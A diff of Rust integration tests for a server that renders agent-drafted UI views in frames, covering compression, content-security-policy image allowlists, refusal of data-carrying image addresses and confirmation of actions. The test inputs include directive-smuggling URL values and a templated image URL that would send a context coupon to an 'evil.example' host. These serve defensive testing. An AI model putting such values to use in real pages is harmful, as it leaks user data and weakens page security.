@@ -9,7 +9,7 @@ use axum::response::{Html, IntoResponse as _};
 use axum::routing::get;
 use serde_json::{Value, json};
 
-use crate::chromium::Chromium;
+use crate::chromium::{Chromium, next_event};
 use crate::contracts::{basket, basket_props};
 use crate::elsewhere::{listener, serve};
 use crate::world::World;
@@ -262,4 +262,200 @@ async fn a_frame_without_a_session_is_a_page_that_says_so_to_people_and_a_refusa
     // One that is there is handed on as ever.
     let own = format!("{own}/frame");
     assert_eq!(world.send(world.get(&own)).await.status, 303);
+}
+
+#[tokio::test]
+async fn pages_and_their_code_travel_small_to_whoever_takes_them_so_and_what_is_streamed_as_it_is()
+{
+    let world = World::start().await;
+    let shown = world.show(basket(), basket_props()).await;
+    let token = shown.slice()["wsToken"].as_str().expect("a token");
+    let frame = format!("/frame/{}?wsToken={token}", shown.session);
+    for path in [
+        "/",
+        &frame,
+        "/_ggui/iframe-runtime.js",
+        "/stage/proscenium-stage.js",
+    ] {
+        let get = async |accepted: &'static str| {
+            let request = world.get(path).header("accept-encoding", accepted);
+            let response = request.send().await.expect("an answer");
+            let header = |name: &str| {
+                let value = response.headers().get(name);
+                value.map(|value| value.to_str().expect("text").to_ascii_lowercase())
+            };
+            let (encoding, vary) = (header("content-encoding"), header("vary"));
+            (encoding, vary, response.bytes().await.expect("a body"))
+        };
+        let (encoding, vary, whole) = get("identity").await;
+        assert_eq!(encoding, None, "{path}");
+        assert!(
+            vary.is_some_and(|vary| vary.contains("accept-encoding")),
+            "{path}"
+        );
+        let (encoding, _, gzip) = get("gzip").await;
+        assert_eq!(encoding.as_deref(), Some("gzip"), "{path}");
+        assert_eq!(gzip[..2], [0x1f, 0x8b], "{path}");
+        let (encoding, _, brotli) = get("gzip, deflate, br, zstd").await;
+        assert_eq!(encoding.as_deref(), Some("br"), "{path}");
+        for small in [gzip, brotli] {
+            assert!(small.len() * 5 < whole.len() * 2, "{path}: {}", small.len());
+        }
+    }
+    let feed = world
+        .get("/stage/feed")
+        .header("accept-encoding", "br")
+        .send()
+        .await;
+    assert!(
+        !feed
+            .expect("an answer")
+            .headers()
+            .contains_key("content-encoding")
+    );
+}
+
+#[tokio::test]
+async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_nowhere_else() {
+    let world = World::start().await;
+    let text = || json!({"schema": {"type": "string"}, "required": true});
+    let picture = json!({
+        "schema": {"type": "string"}, "required": true,
+        "example": "https://example.example/a.png",
+    });
+    let contract = json!({"propsSpec": {"properties": {
+        "a": picture, "b": text(), "c": text(), "d": text(), "e": text(), "f": text(), "g": text(),
+        "many": {"schema": {"type": "array", "items": {"type": "string"}}},
+    }}});
+    let props = json!({
+        "a": "https://props.example:8443/a.png",
+        "b": "https://a;connect-src",
+        "c": "https://*",
+        "d": "https://b.example, https://c.example",
+        "e": "https://bücher.example/\u{1F600}",
+        "f": "https://user@d.example/a",
+        "g": "https://e.example;script-src 'unsafe-inline'",
+    });
+    let view = |url: Value| {
+        json!({"components": [
+            {"id": "root", "component": "Column", "children": ["picture", "other"]},
+            {"id": "picture", "component": "Image", "url": url},
+            {"id": "other", "component": "Image", "url": "https://view.example/logo.png"},
+        ]})
+    };
+    let show = async |view: Value, props: &Value| {
+        let draft = json!({"contract": contract, "view": view});
+        let arguments = json!({"intent": "Pictures", "blueprintDraft": draft});
+        let agreed = world.tool("ggui_handshake", arguments).await;
+        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": props});
+        world.call("ggui_render", arguments).await
+    };
+    let policy_of = async |shown: &Value| {
+        let slice = &shown["_meta"]["ai.ggui/render"];
+        let (session, token) = (slice["sessionId"].as_str(), slice["wsToken"].as_str());
+        let (session, token) = (session.expect("a session"), token.expect("a token"));
+        let frame = world.send(world.get(&format!("/frame/{session}?wsToken={token}")));
+        let frame = frame.await;
+        assert!(
+            frame
+                .body
+                .as_str()
+                .expect("a page")
+                .contains("<meta http-equiv=\"x-dns-prefetch-control\" content=\"off\">")
+        );
+        let policy = frame.headers["content-security-policy"].to_str();
+        policy.expect("text").to_owned()
+    };
+    let expected = [
+        "https://example.example",
+        "https://props.example:8443",
+        "https://view.example",
+        "https://xn--bcher-kva.example",
+    ];
+    let shown = show(view(json!({"path": "/props/a"})), &props).await;
+    let policy = policy_of(&shown).await;
+    let images = format!("; img-src data: {}; ", expected.join(" "));
+    assert!(policy.contains(&images), "{policy}");
+    assert_eq!(policy.matches("connect-src").count(), 1, "{policy}");
+
+    let uri = &shown["structuredContent"]["resourceUri"];
+    let read = world.rpc("resources/read", json!({"uri": uri})).await;
+    let csp = &read.body["result"]["contents"][0]["_meta"]["ui"]["csp"];
+    let resources = csp["resourceDomains"].as_array().expect("a list");
+    assert_eq!(resources[1..], expected.map(Value::from), "{csp}");
+
+    // However many there are, a policy names a few.
+    let mut props = props;
+    props["many"] = (0..1000)
+        .map(|n| format!("https://h{n:04}.example/a"))
+        .collect();
+    let shown = show(view(json!({"path": "/props/a"})), &props).await;
+    let policy = policy_of(&shown).await;
+    assert_eq!(policy.matches("https://").count(), 16, "{policy}");
+
+    // A page that draws no picture loads none.
+    let plain =
+        json!({"components": [{"id": "root", "component": "Text", "text": {"path": "/props/a"}}]});
+    let shown = show(plain, &props).await;
+    let policy = policy_of(&shown).await;
+    assert!(policy.contains("; img-src data:; "), "{policy}");
+}
+
+#[tokio::test]
+async fn a_view_whose_picture_has_an_address_that_is_typed_is_refused_with_a_finding() {
+    let world = World::start().await;
+    let template = "https://evil.example/?q=${/context/coupon}";
+    let url = json!({"call": "formatString", "args": {"value": template}});
+    let view = json!({"components": [{"id": "root", "component": "Image", "url": url}]});
+    let draft = json!({"contract": basket(), "view": view});
+    let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
+    let agreed = world.tool("ggui_handshake", arguments).await;
+    let findings = agreed["suggestion"]["validationFindings"].as_array();
+    let found: Vec<_> = findings
+        .into_iter()
+        .flatten()
+        .map(|finding| (finding["code"].as_str(), finding["path"].as_str()))
+        .collect();
+    let expected = (Some("VIEW_TYPED_ADDRESS"), Some("components[root].url"));
+    assert_eq!(found, [expected], "{agreed}");
+    let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
+    let shown = world.call("ggui_render", arguments).await;
+    assert!(
+        !shown.to_string().contains("evil.example"),
+        "a composed one is shown"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_action_to_confirm_is_asked_for_in_the_contract_s_words_in_a_view_of_the_agent_s_own() {
+    let Some(mut browser) = Chromium::start().await else {
+        return;
+    };
+    let world = World::start().await;
+    let components = json!([
+        {"id": "root", "component": "ActionButton", "label": "Cancel", "action": "checkout", "confirm": false},
+    ]);
+    let draft = json!({"contract": basket(), "view": {"components": components}});
+    let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
+    let agreed = world.tool("ggui_handshake", arguments).await;
+    let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
+    let shown = world.call("ggui_render", arguments).await;
+    let slice = &shown["_meta"]["ai.ggui/render"];
+    assert_eq!(
+        slice["actions"]["checkout"],
+        json!({"label": "Check out", "confirm": true})
+    );
+    let session = slice["sessionId"].as_str().expect("a session");
+    browser.open(&world.stage_url()).await;
+    browser
+        .see(FRAME, "[data-action='checkout']", "Cancel")
+        .await;
+    browser.click(FRAME, "[data-action='checkout']").await;
+    browser.see(FRAME, "dialog[open] h2", "Check out").await;
+    let peek = json!({"sessionId": session, "timeout": 0});
+    let before = world.tool("ggui_consume", peek).await;
+    assert_eq!(before["events"], json!([]), "{before}");
+    browser.click(FRAME, "dialog[open] [data-confirm]").await;
+    let event = next_event(&world, session).await;
+    assert_eq!(event["intent"], "checkout");
 }
